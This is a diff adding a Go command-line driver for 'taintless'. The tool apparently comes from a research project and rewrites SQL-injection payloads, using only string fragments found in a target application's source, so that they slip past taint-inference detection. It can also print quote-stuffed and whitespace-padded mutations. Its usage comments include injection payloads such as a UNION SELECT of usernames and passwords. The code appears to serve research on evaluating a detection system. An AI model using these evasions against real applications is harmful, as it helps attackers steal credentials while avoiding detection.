@@ -1,0 +1,91 @@
+// Command taintless is the automated PTI-evasion tool of Section V: given
+// an application source tree (the fragment vocabulary) and an attack
+// payload, it rewrites the payload using only fragments the application
+// itself contains.
+//
+// Usage:
+//
+//	taintless -src /path/to/app -payload "1 OR 1=1"
+//	taintless -demo -payload "-1 UNION SELECT username, password FROM users"
+//	taintless -demo -payload "..." -nti-evade   # also print NTI evasions
+package main
+
+import (
+	"flag"
+	"fmt"
+	"log"
+	"os"
+
+	"joza"
+	"joza/internal/evasion"
+	"joza/internal/fragments"
+	"joza/internal/nti"
+)
+
+const demoSource = `<?php
+$q = 'SELECT * FROM posts WHERE id=';
+$and = ' and ';
+$or = ' or ';
+$un = ' union ';
+$sel = ' select ';
+$frm = ' from ';
+$sep = ', ';
+$eq = '=';
+$dash = '-';
+`
+
+func main() {
+	log.SetFlags(0)
+	log.SetPrefix("taintless: ")
+	if err := run(os.Args[1:]); err != nil {
+		log.Fatal(err)
+	}
+}
+
+func run(args []string) error {
+	fs := flag.NewFlagSet("taintless", flag.ContinueOnError)
+	src := fs.String("src", "", "application source directory (fragment vocabulary)")
+	payload := fs.String("payload", "", "attack payload to adapt")
+	demo := fs.Bool("demo", false, "use a built-in demo vocabulary")
+	ntiEvade := fs.Bool("nti-evade", false, "also print NTI-evading mutations")
+	threshold := fs.Float64("threshold", nti.DefaultThreshold, "NTI threshold assumed for -nti-evade")
+	if err := fs.Parse(args); err != nil {
+		return err
+	}
+	if *payload == "" {
+		return fmt.Errorf("-payload is required")
+	}
+
+	var texts []string
+	switch {
+	case *demo:
+		texts = joza.FragmentsFromSource(demoSource)
+	case *src != "":
+		var err error
+		texts, err = joza.FragmentsFromDir(*src)
+		if err != nil {
+			return err
+		}
+	default:
+		return fmt.Errorf("either -src or -demo is required")
+	}
+
+	set := fragments.NewSet(texts)
+	tl := evasion.NewTaintless(set)
+	rewritten, ok := tl.Evade(*payload)
+	fmt.Printf("vocabulary: %d fragments\n", set.Len())
+	fmt.Printf("original:   %q\n", *payload)
+	fmt.Printf("rewritten:  %q\n", rewritten)
+	if ok {
+		fmt.Println("result:     every critical token covered — PTI evaded")
+	} else {
+		fmt.Println("result:     some critical tokens uncoverable — PTI still detects")
+	}
+	if *ntiEvade {
+		fmt.Printf("quote-stuffed (magic-quotes apps): %q\n",
+			evasion.QuoteStuffing(*payload, *threshold))
+		fmt.Printf("whitespace-padded (trimming apps): %q\n",
+			evasion.WhitespacePadding(*payload, *threshold))
+	}
+	return nil
+}
